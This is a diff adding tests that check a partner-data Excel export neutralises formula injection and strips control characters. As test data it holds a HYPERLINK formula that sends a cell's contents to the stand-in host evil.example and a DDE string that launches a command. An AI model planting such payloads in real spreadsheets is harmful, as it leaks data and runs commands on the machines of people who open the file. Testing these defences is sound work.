@@ -108,3 +108,71 @@ def test_it_writes_the_import_columns_so_an_export_imports_again_unchanged(world
     ]
     assert preview["ignored_columns"] == []
     assert ObjectChange.objects.count() == changes_before
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&E2,"查看详情")'
+
+
+def exported_rows(response) -> list[tuple]:
+    """The data rows of an export, as openpyxl reads the cells (value and type)."""
+    content = b"".join(response.streaming_content)
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    return [tuple(row) for row in sheet.iter_rows(min_row=2)]
+
+
+def test_it_writes_a_formula_typed_by_a_partner_as_text_that_excel_never_evaluates(world, api_client):
+    # given: addresses that spreadsheet programs would take for formulas, saved before the text
+    # rule existed (written straight to the database)
+    Partner.objects.filter(pk=world.dist_js.pk).update(address=FORMULA, short_name="+86 25 8888 0000")
+    Partner.objects.filter(pk=world.sub_js.pk).update(address="@SUM(1+1)*cmd|' /C calc'!A0", short_name="-2+3")
+
+    # when
+    response = api_client(world.admin).get("/api/v1/partners/export.xlsx")
+
+    # then: the exact text, in string cells ("s", never "f") with Excel's quote prefix
+    assert response.status_code == 200
+    rows = {row[0].value: row for row in exported_rows(response)}
+    address = rows[world.dist_js.code][6]
+    assert (address.value, address.data_type, address.quotePrefix) == (FORMULA, "s", True)
+    short_name = rows[world.dist_js.code][3]
+    assert (short_name.value, short_name.data_type, short_name.quotePrefix) == ("+86 25 8888 0000", "s", True)
+    assert [(cell.value, cell.data_type) for cell in rows[world.sub_js.code][3:7:3]] == [
+        ("-2+3", "s"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "s"),
+    ]
+    # ordinary text has no quote prefix; the raw sheet XML holds no formula at all
+    legal_name = rows[world.dealer_zj.code][2]
+    assert (legal_name.data_type, legal_name.quotePrefix) == ("s", False)
+
+
+def test_it_exports_every_partner_when_one_address_holds_a_control_character(world, api_client, page_client):
+    # given: a vertical tab (\x0b, Word's manual line break) in an address, stored before the text
+    # rule (straight to the database; PostgreSQL stores any but NUL): illegal in the XML of an .xlsx
+    Partner.objects.filter(pk=world.dist_js.pk).update(address="南京市\x0b玄武区中山路1号\x01", short_name="金陵\x1b")
+
+    # when: any user exports
+    api_response = api_client(world.regional_js).get("/api/v1/partners/export.xlsx")
+    page_response = page_client(world.admin).get("/partners/export.xlsx")
+
+    # then: the file is written, the characters replaced by U+FFFD; the other rows intact
+    assert (api_response.status_code, page_response.status_code) == (200, 200)
+    rows = {row[0].value: [cell.value for cell in row] for row in exported_rows(api_response)}
+    assert rows[world.dist_js.code][3] == "金陵\ufffd"
+    assert rows[world.dist_js.code][6] == "南京市\ufffd玄武区中山路1号\ufffd"
+    assert rows[world.sub_js.code][2] == "苏州姑苏电器经营部"
+    assert len({row[0].value for row in exported_rows(page_response)}) == 3
+
+
+def test_an_exported_formula_text_imports_again_unchanged(world, api_client):
+    # given: an export holding formula-like text
+    Partner.objects.filter(pk=world.dealer_zj.pk).update(address="=1+2")
+    client = api_client(world.admin)
+    exported = b"".join(client.get("/api/v1/partners/export.xlsx").streaming_content)
+
+    # when: it is imported again as it is
+    preview = client.post("/api/v1/partners/imports", {"file": SimpleUploadedFile("export.xlsx", exported)}).json()
+
+    # then: the text round-trips exactly: nothing to change
+    assert {row["code"]: (row["action"], row["values"]["address"]) for row in preview["rows"]}[
+        world.dealer_zj.code
+    ] == ("unchanged", "=1+2")
